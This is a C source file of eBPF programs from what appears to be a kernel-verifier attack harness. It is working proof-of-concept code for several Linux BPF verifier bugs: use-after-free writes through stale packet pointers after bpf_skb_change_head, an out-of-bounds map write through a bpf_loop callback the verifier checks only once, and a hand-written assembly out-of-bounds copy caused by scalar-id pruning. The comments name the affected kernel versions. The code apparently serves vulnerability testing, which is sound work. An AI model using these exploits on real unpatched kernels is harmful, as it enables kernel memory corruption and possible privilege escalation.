// SPDX-License-Identifier: GPL-2.0
/*
 * The BPF programs of ldattack's bpf-global-mem-arg (attack_pkt.c): tc
 * programs run with BPF_PROG_TEST_RUN, each loaded alone, each with a
 * global subprogram, which the verifier checks on its own, not as called.
 * bpf_skb_change_head() past the headroom makes pskb_expand_head() copy
 * the packet to a new head and kfree() the old one; a packet pointer from
 * before must end there. None asks a reason:
 *   mem_arg   the subprogram is handed the packet's first word as a plain
 *             pointer argument (memory of 8 bytes, to it), changes the
 *             head itself, then reads and writes through the argument
 *   caller    the caller keeps its own packet pointer across a global
 *             subprogram that changes the head (refused from Linux 6.13,
 *             and by the stable kernels that took its fix)
 *   tail      the caller keeps its packet pointer across a static
 *             subprogram whose tail call runs a program that changes the
 *             head (gm_target): the target's exit returns to the caller
 *             (refused from Linux 6.14, and by the stable kernels that
 *             took its fix)
 *   loop      the caller's packet pointer handed to a bpf_loop()
 *             callback, whose first call grows the head and whose second
 *             uses the pointer: a verifier that checks a callback once,
 *             as its first call finds the state (6.1), lets it
 *   fr_target a socket filter whose global function fr_sink() is handed
 *             8 bytes of struct fr_buf (fr_words[0]): the target that
 *             bpf-freplace-arg's extension (attack_frep.bpf.c) replaces
 *   cb_target bpf-callback-once's socket filter: no packet, a bpf_loop()
 *             callback that moves an offset in its caller's stack (below)
 *   scalar_ids bpf-scalar-ids's socket filter: a length two paths bound
 *             differently, one of them pruned (below)
 * Each but fr_target, cb_target and scalar_ids reads the word the pointer
 * now points at, writes a mark there, reads it back, looks for the mark in
 * the packet as it now is, and puts the word back: the mark read back and
 * not in the packet is a write to the freed head.
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>

char LICENSE[] SEC("license") = "GPL";

/* past the 64 bytes or so of headroom BPF_PROG_TEST_RUN gives a packet */
#define GM_GROW 512

/* "ldpgmarg" */
#define GM_MARK 0x6772616d6770646cULL

/* what the programs saw (.bss, read by ldattack) */
__u64 gm_before;	/* the first word, before the change */
__u64 gm_stale;		/* what the pointer read after it */
__u64 gm_back;		/* the mark, read back through the pointer */
__u64 gm_in_packet;	/* 1: the mark is in the packet as it now is */
__u64 gm_ran;

/*
 * After the change, through @p: read, mark, read back, look for the mark
 * where the packet's first word now is (GM_GROW on), put the word back.
 */
static __always_inline void gm_touch(struct __sk_buff *skb, __u64 *p)
{
	void *data, *end;

	gm_stale = *p;
	*p = GM_MARK;
	gm_back = *p;
	data = (void *)(long)skb->data;
	end = (void *)(long)skb->data_end;
	if (data + GM_GROW + sizeof(__u64) <= end)
		gm_in_packet = *(__u64 *)(data + GM_GROW) == GM_MARK ||
			       *(__u64 *)data == GM_MARK;
	*p = gm_stale;
	gm_ran = 1;
}

__attribute__((noinline)) int gm_sub(struct __sk_buff *skb, __u64 *p)
{
	if (!p)
		return 1;
	gm_before = *p;
	if (bpf_skb_change_head(skb, GM_GROW, 0))
		return 1;
	gm_touch(skb, p);
	return 0;
}

SEC("tc")
int mem_arg(struct __sk_buff *skb)
{
	__u64 *data = (void *)(long)skb->data;

	if ((void *)(data + 1) > (void *)(long)skb->data_end)
		return 0;
	gm_sub(skb, data);
	return 0;
}

__attribute__((noinline)) int gm_grow(struct __sk_buff *skb)
{
	return bpf_skb_change_head(skb, GM_GROW, 0);
}

SEC("tc")
int caller(struct __sk_buff *skb)
{
	__u64 *data = (void *)(long)skb->data;

	if ((void *)(data + 1) > (void *)(long)skb->data_end)
		return 0;
	gm_before = *data;
	if (gm_grow(skb))
		return 0;
	gm_touch(skb, data);
	return 0;
}

/* tail's program array: gm_target, set by ldattack */
struct {
	__uint(type, BPF_MAP_TYPE_PROG_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, __u32);
} gm_progs SEC(".maps");

SEC("tc")
int gm_target(struct __sk_buff *skb)
{
	bpf_skb_change_head(skb, GM_GROW, 0);
	return 0;
}

/* its frame is the target's; the target's exit returns to tail */
static __attribute__((noinline)) int gm_tail_call(struct __sk_buff *skb)
{
	bpf_tail_call(skb, &gm_progs, 0);
	return 0;
}

SEC("tc")
int tail(struct __sk_buff *skb)
{
	__u64 *data = (void *)(long)skb->data;

	if ((void *)(data + 1) > (void *)(long)skb->data_end)
		return 0;
	gm_before = *data;
	gm_tail_call(skb);
	gm_touch(skb, data);
	return 0;
}

/* fr_target's memory: fr_sink() is handed the first word alone */
__u64 fr_words[2];

struct fr_buf {
	__u64 a;
};

__attribute__((noinline)) int fr_sink(struct fr_buf *p)
{
	return p ? p->a : 0;
}

SEC("socket")
int fr_target(struct __sk_buff *skb)
{
	return fr_sink((struct fr_buf *)&fr_words[0]);
}

/* loop's callback context: the caller's packet pointer */
struct gm_loop_ctx {
	struct __sk_buff *skb;
	__u64 *data;
	void *end;
};

static long gm_loop_cb(__u32 i, struct gm_loop_ctx *c)
{
	if ((void *)(c->data + 1) > c->end)
		return 1;
	if (!i) {
		gm_before = *c->data;
		bpf_skb_change_head(c->skb, GM_GROW, 0);
		return 0;
	}
	gm_touch(c->skb, c->data);
	return 1;
}

SEC("tc")
int loop(struct __sk_buff *skb)
{
	struct gm_loop_ctx c = {
		.skb = skb,
		.data = (void *)(long)skb->data,
		.end = (void *)(long)skb->data_end,
	};

	bpf_loop(2, gm_loop_cb, &c, 0);
	return 0;
}

/*
 * bpf-callback-once: a bpf_loop() callback, run twice, adds 8 to an
 * offset in its caller's frame. A verifier that checks a callback once,
 * as its first call finds the state (Linux 6.1; 6.7 on check it as called
 * any number of times), takes the offset for 8 after the loop, where it
 * is 16: the caller's store at the offset less 8 into an 8-byte map value
 * it checked at 0 lands in the next value (any offset the loop reaches,
 * any address past the value, on such a kernel).
 */
#define CB_MARK 0x65636e6f62637064ULL	/* "dpcbonce" */

/* 0, and known as 0 to the verifier: .rodata is frozen */
const volatile __u64 cb_zero;

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 2);
	__type(key, __u32);
	__type(value, __u64);
} cb_map SEC(".maps");

struct cb_ctx {
	__u64 off;
};

static long cb_step(__u32 i, struct cb_ctx *c)
{
	c->off += 8;
	return 0;
}

SEC("socket")
int cb_target(struct __sk_buff *skb)
{
	struct cb_ctx c = { .off = cb_zero };
	__u32 key = 0;
	__u64 *v;

	bpf_loop(2, cb_step, &c, 0);
	v = bpf_map_lookup_elem(&cb_map, &key);
	if (!v)
		return 0;
	*(__u64 *)((char *)v + c.off - 8) = CB_MARK;
	return 1;
}

/*
 * bpf-scalar-ids (a red team's, on Debian 12's kernel with the BPF
 * backend): sc_len and sc_bound are unknown to the verifier (.bss).
 *
 *	if sc_len > sc_bound goto l1;	path II jumps
 *	sc_bound = sc_len;		path I: one scalar, one id, in two registers
 *   l1:	if sc_bound > 8 or sc_bound < 1 goto out;
 *	bpf_skb_load_bytes(skb, 0, &sc_victim[0], sc_len);
 *
 * On path I the checks of sc_bound bound sc_len too, to [1, 8], within
 * the 16-byte map value. A verifier that prunes path II at l1 against
 * path I's state without checking that the registers path I linked are
 * linked on path II (6.1; 6.5's fix: scalar ids in regsafe() through
 * check_ids()) never checks path II, where nothing bounds sc_len: run
 * with sc_len 32 and sc_bound 1, the copy is 32 bytes, over the next
 * value too (any length, past the map's memory, on such a kernel).
 * Loaded with BPF_F_TEST_STATE_FREQ, which makes l1 a checkpoint; any
 * program whose states fall so does without it. CAP_BPF: no pointer
 * arithmetic, a helper's length.
 */
__u64 sc_len, sc_bound;

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 4);
	__type(key, __u32);
	__type(value, char[16]);
} sc_victim SEC(".maps");

SEC("socket")
__attribute__((naked)) int scalar_ids(void)
{
	asm volatile ("r8 = r1;"
		      "r1 = %[len] ll;"
		      "r6 = *(u64 *)(r1 + 0);"
		      "r1 = %[bound] ll;"
		      "r7 = *(u64 *)(r1 + 0);"
		      "r1 = 0;"
		      "*(u32 *)(r10 - 4) = r1;"
		      "r2 = r10;"
		      "r2 += -4;"
		      "r1 = %[victim] ll;"
		      "call %[lookup];"
		      "if r0 == 0 goto out_%=;"
		      "r9 = r0;"
		      "if r6 > r7 goto l1_%=;"
		      "r7 = r6;"
		      "l1_%=:"
		      "if r7 > 8 goto out_%=;"
		      "if r7 < 1 goto out_%=;"
		      "r1 = r8;"
		      "r2 = 0;"
		      "r3 = r9;"
		      "r4 = r6;"
		      "call %[load_bytes];"
		      "r0 = 1;"
		      "exit;"
		      "out_%=:"
		      "r0 = 0;"
		      "exit;"
		      :: [len]"i"(&sc_len), [bound]"i"(&sc_bound), [victim]"i"(&sc_victim),
			 [lookup]"i"(BPF_FUNC_map_lookup_elem),
			 [load_bytes]"i"(BPF_FUNC_skb_load_bytes)
		      : "r0", "r1", "r2", "r3", "r4", "r5", "r6", "r7", "r8", "r9", "memory");
}
